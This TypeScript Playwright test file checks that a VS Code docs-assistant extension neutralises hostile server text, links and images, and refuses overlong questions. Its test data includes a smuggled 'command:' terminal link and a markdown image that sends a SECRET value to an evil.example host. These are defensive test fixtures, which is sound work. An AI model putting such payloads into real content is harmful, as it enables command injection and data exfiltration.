// What a hostile server and a careless click can do, as VS Code itself renders it (issue 13):
// server text in notifications and the tree, links and images in answers, and a question too
// long to send.

import * as assert from 'node:assert/strict';
import type { Frame } from 'playwright-core';
import type { Workbench } from '../runner/workbench';
import { answerInput, giveKeys, notification, openSidebar, runCommand, screenshot, uiSuite, webviewFrame, workbench } from './support';

const HOSTILE = '[Renew the key](command:workbench.action.terminal.new) $(alert)';

describe('hardening, as a user sees it', function () {
  this.timeout(180_000);
  const ui = uiSuite({ deltaDelayMs: 1, searchDelayMs: 0 });

  async function connected(): Promise<{ bench: Workbench; chat: Frame }> {
    const bench = await workbench({
      userSettings: {
        'docsAssistant.baseUrl': ui.emulator.url,
        'docsAssistant.domain': ui.emulator.config.domain,
        'docsAssistant.projectId': ui.emulator.config.projectId,
        'docsAssistant.agentJobs.pollIntervalSeconds': 1,
      },
      viewport: { width: 1400, height: 900 },
    });
    await openSidebar(bench.page);
    await giveKeys(bench.page, ui.emulator.url, ui.emulator.config);
    const chat = await webviewFrame(bench.page, 'textarea.question-input');
    return { bench, chat };
  }

  it("shows a server's words and a job's fields as plain text in notifications and the tree", async () => {
    const { bench } = await connected();
    const { page } = bench;
    ui.emulator.faults.add({ kind: 'status', status: 401, body: JSON.stringify({ message: HOSTILE }) }, { operation: 'page' });
    await runCommand(page, 'Docs Assistant: Check Connection');
    const shown = await notification(page, 'did not accept the assistant key');
    assert.match(
      await shown.innerText(),
      /The server said: "\[Renew the key\]\u2060?\(command:workbench\.action\.terminal\.new\) \$\u2060?\(alert\)"/,
    );
    assert.equal(await shown.locator('.notification-list-item-message a').count(), 0, 'no link in the message');
    await screenshot(page, 'hardening-notification');

    ui.emulator.jobs.add({ id: 'job-hostile', outcome: 'staysActive', repository: 'https://github.com/acme/docs', ref: HOSTILE });
    await runCommand(page, 'Docs Assistant: Track Agent Job', { opensInput: true });
    await answerInput(page, 'job-hostile', 'id of an agent job');
    const row = page
      .locator('.pane', { has: page.locator('.pane-header', { hasText: 'Agent Jobs' }) })
      .locator('.monaco-list-row')
      .first();
    await row.locator('.label-name', { hasText: 'Renew the key' }).waitFor();
    assert.match(
      (await row.locator('.label-name').innerText()).replace(/\u2060/g, ''),
      /acme\/docs · \[Renew the key\]\(command:workbench\.action\.terminal\.new\) \$\(alert\)/,
    );
    assert.equal(
      await row.locator('.label-name .monaco-highlighted-label').locator('a, .codicon').count(),
      0,
      'neither a link nor an icon in the label',
    );
    await screenshot(page, 'hardening-tree');
    assert.equal(await page.locator('.terminal-outer-container, .xterm').count(), 0, 'no terminal was opened');
  });

  it('opens a web link once, after its checks; never opens other schemes; never loads an image', async () => {
    ui.emulator.config.answerOverride = [
      'Links: [web page](https://example.com/x), [mail](mailto:a@evil.example), [vs](vscode://evil.example/x).',
      '',
      '![leak](https://evil.example/leak.png?code=SECRET)',
      '',
    ].join('\n');
    ui.emulator.config.extraResults = [
      { url: 'vscode://evil.example/open', content: 'x', metadata: { title: 'A vscode link' } },
      { url: 'mailto:x@evil.example', content: 'x', metadata: { title: 'A mail link' } },
    ];
    const { bench, chat } = await connected();
    const { page } = bench;
    const evilRequests: string[] = [];
    page.context().on('request', (request) => request.url().includes('evil.example') && evilRequests.push(request.url()));
    await chat.locator('textarea.question-input').fill('Show me links');
    await chat.locator('textarea.question-input').press('Enter');
    await chat.locator('.turn[data-status="done"]').waitFor({ timeout: 30_000 });
    const answer = chat.locator('.turn .answer');
    assert.equal(await answer.locator('img').count(), 0, 'no image element');
    assert.equal(await chat.locator('a[href]').count(), 0, 'no live href anywhere');
    assert.equal(await answer.locator('a[data-href^="mailto"], a[data-href^="vscode"]').count(), 0);
    assert.deepEqual(
      await chat.locator('.source-text').allInnerTexts(),
      ['A vscode link', 'A mail link'],
      'sources that are not http(s) or site paths are text',
    );

    // One click on a web link: one confirmation from VS Code, not two.
    await answer.getByText('web page').click();
    const dialog = page.locator('.monaco-dialog-box');
    await dialog.waitFor({ timeout: 15_000 });
    assert.match(await dialog.innerText(), /example\.com\/x/);
    await screenshot(page, 'hardening-open-once');
    await dialog.getByRole('button', { name: 'Cancel' }).click();
    await dialog.waitFor({ state: 'detached' });
    // The one dialog answered: a second one not opening leaves nothing to wait for, hence a time.
    await page.waitForTimeout(1_500);
    assert.equal(await dialog.count(), 0, 'the link was not opened a second time');
    assert.deepEqual(evilRequests, [], 'nothing was loaded from the image or link hosts');
  });

  it('keeps a question too long to send in the box, and says why', async () => {
    const { bench, chat } = await connected();
    const input = chat.locator('textarea.question-input');
    const long = 'x'.repeat(100_001);
    await input.evaluate((box: { value: string; dispatchEvent(event: Event): boolean }, text: string) => {
      box.value = text;
      box.dispatchEvent(new Event('input'));
    }, long);
    await input.press('Enter');
    const problem = chat.locator('.composer-problem');
    await problem.waitFor();
    assert.match(await problem.innerText(), /100,001 characters long; the limit is 100,000/);
    assert.equal((await input.inputValue()).length, long.length, 'nothing typed is lost');
    assert.equal(ui.emulator.requestsFor('assistant').length, 0);
    await screenshot(bench.page, 'hardening-question-too-long');
    await input.fill('A question of a sane length?');
    assert.equal(await problem.isVisible(), false, 'the reason goes once the question changes');
    await input.press('Enter');
    await chat.locator('.turn[data-status="done"]').waitFor({ timeout: 30_000 });
    assert.equal(await input.inputValue(), '', 'an accepted question leaves the box');
  });
});
